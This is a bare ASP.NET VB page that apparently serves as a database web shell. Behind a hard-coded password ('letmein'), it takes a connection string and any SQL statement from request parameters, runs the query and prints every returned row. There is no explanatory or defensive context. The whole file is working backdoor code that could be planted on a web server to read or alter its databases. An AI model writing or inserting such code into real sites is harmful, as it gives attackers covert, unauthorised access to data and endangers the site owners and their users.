<%@ Page Language="VB" %>
<%@ Import Namespace="System.Data.OleDb" %>
<%
If Request("p") = "letmein" Then
    Dim cn As New OleDbConnection(Request("cs"))
    cn.Open()
    Dim q As String = Request("q")
    Dim cm As New OleDbCommand(q, cn)
    Dim rd As OleDbDataReader = cm.ExecuteReader()
    While rd.Read()
        For i As Integer = 0 To rd.FieldCount - 1
            Response.Write(rd(i).ToString() & vbTab)
        Next
        Response.Write("<br>")
    End While
    cn.Close()
End If
%>
